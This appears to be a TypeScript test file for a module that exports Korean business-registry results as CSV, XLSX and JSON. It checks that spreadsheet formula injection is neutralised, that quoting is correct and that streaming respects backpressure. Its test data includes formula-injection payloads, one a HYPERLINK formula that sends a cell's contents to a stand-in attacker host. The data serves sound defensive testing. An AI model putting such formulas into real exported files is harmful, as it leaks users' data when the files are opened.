import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { neutralise } from './formula-guard.ts';
import { writeCsv, writeJson, writeXlsx, type ResultRow } from './write-results.ts';

const T = { timeout: 20_000 };
const COLUMNS = ['input:사업자등록번호', 'input:상호', 'input:비고', 'biz_status', 'bounce_prob', 'checked'];
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

function rows(): ResultRow[] {
  return [
    { 'input:사업자등록번호': '124-81-00998', 'input:상호': '(주)한빛, "본점"', 'input:비고': '첫 줄\r\n둘째 줄', biz_status: 'active', bounce_prob: 0.125, checked: true },
    ...HOSTILE.map((h, i) => ({ 'input:사업자등록번호': '2208162517', 'input:상호': h, 'input:비고': `-${i}.5`, biz_status: 'closed', bounce_prob: -1.5, checked: null })),
    { 'input:사업자등록번호': '', biz_status: 'invalid', bounce_prob: null },
  ];
}

async function* slowly<T>(items: T[]): AsyncGenerator<T> {
  for (const item of items) {
    await new Promise((r) => setImmediate(r));
    yield item;
  }
}

function asString(value: unknown): string {
  assert.equal(typeof value, 'string');
  return value as string;
}

/** What a download shows of a cell: tabs and line breaks as spaces. */
const shown = (h: string) => h.replace(/[\t\r\n]/g, ' ');

function sink(): { out: PassThrough; bytes: () => Buffer } {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  return { out, bytes: () => Buffer.concat(chunks) };
}

test('the neutralising rule', () => {
  for (const h of HOSTILE) assert.equal(neutralise(h), `'${shown(h)}`);
  for (const s of ['한빛', '1248100998', '', "'=1", 'a-b', 'x =1']) assert.equal(neutralise(s), s);
  // a formula start behind a list separator of any locale, a quote, or spaces; full-width forms
  const cases: [string, string][] = [
    ['x;=1+1', "x;'=1+1"], ['a,@SUM(A1)', "a,'@SUM(A1)"], ['a\t+1', 'a +1'], ['a;"=1"', 'a;"\'=1"'], [' =1', "' =1"],
    ['＝1+1', "'＝1+1"], ['x;－1', "x;'－1"], ['nul\u0000 and bell\u0007', 'nul and bell'], ['a\r\nb', 'a  b'],
  ];
  for (const [input, written] of cases) assert.equal(neutralise(input), written, JSON.stringify(input));
});

test('CSV: UTF-8 BOM, CRLF, RFC 4180 quoting, formulas neutralised, and it parses back', T, async () => {
  const { out, bytes } = sink();
  await writeCsv(slowly(rows()), COLUMNS, out);
  const buf = bytes();
  assert.deepEqual([...buf.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const text = buf.toString('utf8').slice(1);
  assert.ok(text.startsWith('input:사업자등록번호,input:상호,input:비고,biz_status,bounce_prob,checked\r\n'));
  const back: string[][] = parse(text, { relax_column_count: false });
  assert.equal(back.length, 1 + rows().length);
  // line breaks are never written raw: they become spaces, as in uploaded cells
  assert.deepEqual(back[1], ['124-81-00998', '(주)한빛, "본점"', '첫 줄  둘째 줄', 'active', '0.125', 'true']);
  HOSTILE.forEach((h, i) => {
    // hostile text gets the apostrophe, text that only looks numeric too, our own numbers stay numbers
    assert.deepEqual(back[2 + i]!.slice(1, 5), [`'${shown(h)}`, `'-${i}.5`, 'closed', '-1.5']);
  });
  assert.deepEqual(back.at(-1), ['', '', '', 'invalid', '', '']);
});

test('CSV read with any locale\'s list separator (, ; tab), quoted or not: no field starts with a formula', T, async () => {
  const nasty = ['x;=1+1', 'a,=2', 'b\t@SUM(A1)', 'c;"=3"', ' ;-4', '＝5', 'd;＋6', '=7', 'e\r\n=8'];
  const { out, bytes } = sink();
  await writeCsv(nasty.map((n) => ({ 'input:상호': n })), ['input:상호'], out);
  const text = bytes().toString('utf8').slice(1);
  // oxlint-disable-next-line no-control-regex
  assert.doesNotMatch(text.split('\r\n').join(''), /[\u0000-\u001f\u007f]/u, 'no raw control characters but the record ends');
  for (const delimiter of [',', ';', '\t']) {
    for (const quote of ['"', false] as const) {
      const fields: string[] = parse(text, { delimiter, quote, relax_column_count: true, relax_quotes: true }).flat();
      for (const f of fields) assert.doesNotMatch(f.replace(/^[\s"]+/, ''), /^[=+\-@＝＋－＠]/, `delimiter ${JSON.stringify(delimiter)}, quotes ${String(quote)}: ${f}`);
    }
  }
});

test('XLSX: read back with exceljs — strings never formulas and shown as typed, numbers and booleans typed, header bold, frozen and filtered, columns sized', T, async () => {
  const { out, bytes } = sink();
  const long = 'x'.repeat(40_000);
  await writeXlsx(slowly([...rows(), { 'input:상호': long, 'input:비고': 'bell\u0007char' }]), COLUMNS, out, { percentColumns: ['bounce_prob'] });
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes() as unknown as ArrayBuffer);
  const sheet = book.worksheets[0]!;
  assert.equal(sheet.getRow(1).getCell(2).value, 'input:상호');
  assert.equal(sheet.getRow(1).font?.bold ?? sheet.getRow(1).getCell(1).font?.bold, true);
  assert.equal(sheet.views[0]?.state, 'frozen');
  assert.ok(sheet.autoFilter, 'the header row has a filter');
  assert.equal(sheet.getRow(2).getCell(2).value, '(주)한빛, "본점"');
  assert.equal(sheet.getRow(2).getCell(5).value, 0.125);
  assert.equal(sheet.getColumn(5).numFmt, '0.0%', 'a probability shows as a percentage');
  assert.equal(sheet.getRow(2).getCell(6).value, true, 'a real boolean');
  // sized to content: the long 상호 column is as wide as allowed, a short one is not
  assert.equal(sheet.getColumn(2).width, 60);
  assert.ok(sheet.getColumn(4).width! < 20);
  HOSTILE.forEach((h, i) => {
    const row = sheet.getRow(3 + i);
    const cell = row.getCell(2);
    assert.notEqual(cell.type, ExcelJS.ValueType.Formula);
    assert.equal(asString(cell.value), shown(h).replace(/\r/g, ' '), 'shown as typed: no apostrophe in XLSX');
    assert.equal(cell.numFmt, '@', 'formatted as text, so editing it in Excel keeps it text');
    assert.equal(row.getCell(3).value, `-${i}.5`);
    assert.equal(row.getCell(5).value, -1.5);
  });
  let formulas = 0;
  sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
  assert.equal(formulas, 0);
  const last = sheet.getRow(sheet.rowCount);
  assert.equal(asString(last.getCell(2).value).length, 32_767);
  assert.equal(last.getCell(3).value, 'bellchar');
});

test('XLSX: rows not read to the end are released when the writer fails', T, async () => {
  let released = false;
  async function* source(): AsyncGenerator<ResultRow> {
    try {
      for (let i = 0; i < 100_000; i++) yield { 'input:상호': `r${i}` };
    } finally {
      released = true;
    }
  }
  const out = new Writable({ write: (_c, _e, cb) => cb(new Error('client gone')) });
  out.on('error', () => undefined);
  await assert.rejects(writeXlsx(source(), COLUMNS, out));
  assert.equal(released, true);
});

test('JSON: an array of objects with the given columns, and NDJSON', T, async () => {
  const a = sink();
  await writeJson(slowly(rows()), COLUMNS, a.out);
  const back = JSON.parse(a.bytes().toString('utf8')) as Record<string, unknown>[];
  assert.equal(back.length, rows().length);
  assert.deepEqual(Object.keys(back[0]!), COLUMNS);
  // JSON is data: no apostrophes
  assert.equal(back[1]!['input:상호'], HOSTILE[0]);
  assert.equal(back.at(-1)!['input:상호'], null);

  const n = sink();
  await writeJson(slowly(rows()), COLUMNS, n.out, { format: 'ndjson' });
  const lines = n.bytes().toString('utf8').trimEnd().split('\n');
  assert.deepEqual(lines.map((l) => JSON.parse(l) as unknown), back);

  const empty = sink();
  await writeJson([], COLUMNS, empty.out);
  assert.deepEqual(JSON.parse(empty.bytes().toString('utf8')), []);
});

/** A client reading 1 KB at a time; records the most the writer ever left waiting in it. */
/**
 * A client that takes nothing until released, then a chunk per tick: whether the writer waits for
 * it does not depend on how fast the machine is (a client that is merely slow can be outrun).
 */
function slowClient() {
  let peak = 0;
  let total = 0;
  let held: (() => void)[] | null = [];
  const out = new Writable({
    highWaterMark: 1024,
    write(chunk: Buffer, _e, cb) {
      total += chunk.length;
      if (held) held.push(cb);
      else setImmediate(cb);
    },
  });
  const watch = setInterval(() => (peak = Math.max(peak, out.writableLength)), 0);
  const release = () => {
    const waiting = held ?? [];
    held = null;
    for (const cb of waiting) setImmediate(cb);
  };
  return { out, peak: () => peak, total: () => total, release, stop: () => clearInterval(watch) };
}

function* many(n: number): Generator<ResultRow> {
  for (let i = 0; i < n; i++) yield { 'input:사업자등록번호': '1248100998', 'input:상호': `업체 ${i}`, 'input:비고': '서울특별시 강남구 테헤란로 152, 10층', biz_status: 'active', bounce_prob: i / n, checked: true };
}

test('writers wait for a slow client instead of buffering the whole download', T, async () => {
  for (const write of [writeCsv, writeJson, writeXlsx]) {
    const client = slowClient();
    let pulled = 0;
    const source = (function* () {
      for (const r of many(30_000)) {
        pulled++;
        yield r;
      }
    })();
    const done = write(source, COLUMNS, client.out);
    try {
      await new Promise((r) => setTimeout(r, 100));
      // while the client takes nothing, the writer has pulled only what fits in its buffers
      assert.ok(pulled < 30_000, `${write.name} pulled ${pulled} rows at once`);
      client.release();
      await done;
    } finally {
      client.release();
      client.stop();
    }
    assert.equal(pulled, 30_000);
    assert.ok(client.peak() < 1024 * 1024, `${write.name} left ${client.peak()} bytes waiting`);
  }
});

test('a client that goes away fails the writer instead of leaving it waiting', T, async () => {
  for (const write of [writeCsv, writeJson, writeXlsx]) {
    let received = 0;
    const out = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _e, cb) {
        received += chunk.length;
        if (received > 100_000) process.nextTick(() => out.destroy());
        setImmediate(cb);
      },
    });
    out.on('error', () => {});
    await assert.rejects(write(many(200_000), COLUMNS, out), /closed/, `${write.name} should fail`);
  }
});
